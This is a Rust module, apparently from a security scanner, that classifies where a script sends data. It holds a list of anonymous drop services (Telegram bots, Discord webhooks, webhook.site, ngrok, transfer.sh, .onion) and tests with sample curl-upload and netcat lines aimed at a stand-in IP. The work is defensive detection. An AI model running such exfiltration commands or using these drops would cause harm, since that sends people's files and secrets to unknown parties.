//! What a script sends away, and where to.

use std::sync::LazyLock;

use regex::Regex;

use super::Host;

/// Hosts that take what anybody posts, and whose owner nobody knows.
const DROPS: &[&str] = &[
    "api.telegram.org/bot",
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "hooks.slack.com/services",
    "webhook.site",
    "pipedream.net",
    "requestbin",
    "requestcatcher.com",
    "hookb.in",
    "beeceptor.com",
    "ngrok",
    "trycloudflare.com",
    "transfer.sh",
    "file.io",
    "gofile.io",
    "anonfiles",
    "bashupload.com",
    "0x0.st",
    "oshi.at",
    "temp.sh",
    "pastebin.com/api",
    "burpcollaborator.net",
    "oastify.com",
    "interact.sh",
    "oast.",
    "dnslog.cn",
    "ceye.io",
    ".onion",
];

/// Where a file sends to, from the safest to the oddest.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Destination {
    /// Nowhere that can be read from the file.
    Unknown,
    /// A host by name.
    Named,
    /// A bare address, or a place where anybody may drop something.
    Odd,
}

static URL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:https?|ftp|tcp|wss?)://(?:[^\s/@"'`]+@)?(\[[0-9a-f:]+\]|[^\s/"'`|;)<>:$@{}\\(,]+)"#)
        .expect("the pattern is a constant, and a test runs it")
});
static BARE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:^|[\s"'(=@/])(\d{1,3}(?:\.\d{1,3}){3})(?:["'\s:/),;]|$)"#)
        .expect("the pattern is a constant, and a test runs it")
});

/// The oddest destination that `text` names, with it as written. Cloud metadata services are none.
pub(crate) fn destination(text: &str) -> (Destination, String) {
    if let Some(at) = DROPS.iter().find_map(|drop| text.find(drop)) {
        let end = text.get(at..).and_then(|rest| rest.find(['"', '\'', ' ', '\n', '`'])).unwrap_or(32).min(32);
        let written = text.get(at..at + end).unwrap_or_default();
        return (Destination::Odd, written.to_owned());
    }
    let mut best = (Destination::Unknown, String::new());
    let hosts = URL.captures_iter(text).chain(BARE.captures_iter(text)).filter_map(|found| found.get(1)).take(512);
    for host in hosts {
        let rank = match Host::of(host.as_str()) {
            odd if odd.is_odd() => Destination::Odd,
            Host::Named => Destination::Named,
            // The reserved names of RFC 2606 mean nobody, but are hosts when something is sent there.
            Host::Placeholder if host.as_str().contains('.') && !host.as_str().contains(['$', '<', '{']) => {
                Destination::Named
            }
            _ => Destination::Unknown,
        };
        let is_metadata = matches!(host.as_str(), "100.100.100.200" | "metadata.google.internal" | "168.63.129.16");
        if rank > best.0 && !is_metadata {
            best = (rank, host.as_str().to_owned());
        }
    }
    best
}

#[cfg(test)]
mod tests {
    use super::{Destination, destination};

    #[test]
    fn the_oddest_destination_counts() {
        for (text, expected) in [
            ("curl https://deb.debian.org/x -d @y http://198.51.100.7/u", Destination::Odd),
            ("curl -d @x https://hooks.vendor.com/y", Destination::Named),
            ("curl http://169.254.169.254/latest/ http://100.100.100.200/x", Destination::Unknown),
            ("https://api.telegram.org/bot1:x/sendDocument", Destination::Odd),
            ("nc 198.51.100.7 443", Destination::Odd),
            ("HOST = '198.51.100.7'", Destination::Odd),
            ("version 1.2.3", Destination::Unknown),
            ("curl $URL", Destination::Unknown),
        ] {
            assert_eq!(destination(text).0, expected, "{text}");
        }
    }
}
